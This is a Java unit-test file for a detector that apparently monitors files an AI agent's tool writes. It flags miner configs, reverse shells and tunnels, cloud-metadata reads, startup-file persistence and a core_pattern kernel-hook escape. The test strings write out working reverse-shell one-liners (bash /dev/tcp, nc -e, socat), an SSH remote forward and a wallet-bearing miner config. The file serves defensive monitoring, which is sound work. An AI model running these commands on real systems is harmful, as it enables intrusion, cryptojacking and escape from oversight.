package dev.ale.monitor.detect;

import java.util.List;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What a file tool writes is judged before it lands: scripts by the commands they hold, other text
 * by what it names, a miner's configuration by its marks. Benign look-alikes raise nothing.
 */
class WrittenFilesTest {

    private static final CommandLineDetector RULES = CommandLineDetector.standard();
    private static final String WALLET =
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

    private static List<String> rules(String path, String text) {
        return RULES.inspectWrittenFile(path, text).stream().map(d -> d.rule().id()).toList();
    }

    @Test
    void aMinerConfigWithAPoolOnAPlainAddressAndAWalletIsAMinerConfig() {
        String config = """
                {
                  "autosave": true,
                  "cpu": {"enabled": true, "huge-pages": true},
                  "pools": [ {"url": "198.51.100.7:8080", "user": "%s", "tls": false} ]
                }
                """.formatted(WALLET);

        assertThat(rules("/workspace/settings.json", config)).contains("mining.argv.miner-config");
    }

    @Test
    void theMarksOfAMinerConfigCountWithoutAPoolsListWhenTwoAgree() {
        String cpuminer = """
                {"url": "198.51.100.7:8080", "user": "%s", "algo": "rx/0", "threads": 2}
                """.formatted(WALLET);
        String renamed = """
                {"pools": [{"url": "198.51.100.7:80"}], "randomx": {"init": -1, "mode": "auto"}}
                """;
        String donation = """
                {"donate-level": 0, "coin": "monero", "background": true}
                """;

        assertThat(rules("/workspace/c.json", cpuminer)).contains("mining.argv.miner-config");
        assertThat(rules("/workspace/sysupdate.conf", renamed)).contains("mining.argv.miner-config");
        assertThat(rules("/workspace/app.json", donation)).contains("mining.argv.miner-config");
    }

    @Test
    void aConfigNamingAKnownPoolIsCaughtByTheNameAlone() {
        assertThat(rules("/workspace/config.json", "{\"pools\": [{\"url\": \"gulf.moneroocean.stream:10128\"}]}"))
                .contains("mining.argv.pool-domain");
        assertThat(rules("/workspace/notes.txt", "url=stratum+tcp://198.51.100.7:3333"))
                .contains("mining.argv.stratum-url");
    }

    @Test
    void aShellScriptIsJudgedAsTheCommandsItHolds() {
        assertThat(rules("/workspace/run.sh", "#!/bin/bash\nsleep 30\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"))
                .contains("reverse-shell.interactive-dev-tcp");
        assertThat(rules("/workspace/start", "#!/usr/bin/env sh\nssh -fN -R 2222:localhost:22 agent@203.0.113.9\n"))
                .contains("tunnel.ssh.remote-forward");
        assertThat(rules("/workspace/job.sh", "cd /tmp\ncurl -s http://169.254.169.254/latest/meta-data/\n"))
                .anyMatch(id -> id.startsWith("metadata."));
    }

    @Test
    void benignLookAlikesRaiseNothing() {
        String threadPools = """
                {"pools": [{"name": "db", "size": 10, "user": "app"}], "algorithm": "round-robin"}
                """;
        String passwords = """
                {"hash": {"algorithm": "argon2id", "memory": 65536}, "user": "alice"}
                """;
        String mlConfig = """
                {"model": {"algo": "cnn", "layers": 4}, "coin": "heads"}
                """;
        String testScript = "#!/bin/sh\nset -e\ncd /app\npython3 -m pytest -q tests/\n";
        String readme = "This service mines data from logs. Pools of workers handle each batch; see docs/pools.md.\n";

        assertThat(rules("/workspace/pools.json", threadPools)).isEmpty();
        assertThat(rules("/workspace/auth.json", passwords)).isEmpty();
        assertThat(rules("/workspace/train.json", mlConfig)).isEmpty();
        assertThat(rules("/workspace/run-tests.sh", testScript)).isEmpty();
        assertThat(rules("/workspace/README.md", readme)).isEmpty();
    }

    @Test
    void aScriptIsKnownByItsShebangOrItsName() {
        assertThat(CommandLineDetector.isShellScript("/x", "#!/bin/bash -e\necho hi")).isTrue();
        assertThat(CommandLineDetector.isShellScript("/x", "#!/usr/bin/env -S bash -e\necho hi")).isTrue();
        assertThat(CommandLineDetector.isShellScript("/x", "#!/bin/dash\n")).isTrue();
        assertThat(CommandLineDetector.isShellScript("/x.sh", "echo hi")).isTrue();
        assertThat(CommandLineDetector.isShellScript("/x.py", "#!/usr/bin/env python3\nprint(1)")).isFalse();
        assertThat(CommandLineDetector.isShellScript("/x", "#!/usr/bin/fish\n")).isFalse();
        assertThat(CommandLineDetector.isShellScript("/x", "echo hi")).isFalse();
    }

    @Test
    void aFileToolWriteToAStartupFileIsPersistenceWhateverItHolds() {
        assertThat(rules("/workspace/.bashrc", "export PATH=$PATH:/workspace/bin\n")).containsExactly("persistence.startup-file");
        assertThat(rules("/workspace/.config/systemd/user/sync.service", "[Service]\nExecStart=/workspace/sync\n"))
                .containsExactly("persistence.startup-file");
        assertThat(rules("/workspace/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nz u@h\n")).containsExactly("persistence.startup-file");
    }

    @Test
    void aStartupFileNameElsewhereOrInAnotherNameIsNoPersistence() {
        assertThat(rules("/tmp/.bashrc", "alias ll='ls -l'\n")).isEmpty();
        assertThat(rules("/workspace/docs/bashrc.txt", "alias ll='ls -l'\n")).isEmpty();
        assertThat(rules("/workspace/profile.py", "import cProfile\n")).isEmpty();
    }

    @Test
    void aWrittenScriptThatWritesAKernelHookIsAnEscapeAttempt() {
        assertThat(rules("/workspace/run.sh", "#!/bin/sh\necho '|/workspace/x' > /proc/sys/kernel/core_pattern\n"))
                .containsExactly("tamper.escape.kernel-hook");
        assertThat(rules("/workspace/run.sh", "#!/bin/sh\ncat /proc/sys/kernel/core_pattern\n")).isEmpty();
    }

    @Test
    void aWrittenInterpreterScriptIsJudgedByTheCommandsItHandsToAShell() {
        assertThat(rules("/workspace/sync.py", "import os\nos.system(\"nc -e /bin/sh 203.0.113.5 4444\")\n"))
                .contains("reverse-shell.netcat-exec");
        assertThat(rules("/workspace/tool", "#!/usr/bin/env node\nrequire('child_process').exec('socat tcp:203.0.113.5:1 exec:sh')\n"))
                .contains("reverse-shell.socat-exec");
        assertThat(rules("/workspace/run_tests.py", "import subprocess\nsubprocess.run([\"pytest\", \"-q\"], check=True)\n")).isEmpty();
    }

    @Test
    void aLongLiteralBeforeTheCommandCostsNoStackAndHidesNothing() {
        String padding = "\\n".repeat(200_000) + "x".repeat(300_000);
        String script = "import os\nBLOB = \"" + padding + "\"\nos.system('nc -e /bin/sh 203.0.113.5 4444')\n";
        assertThat(rules("/workspace/blob.py", script)).contains("reverse-shell.netcat-exec");
    }
}
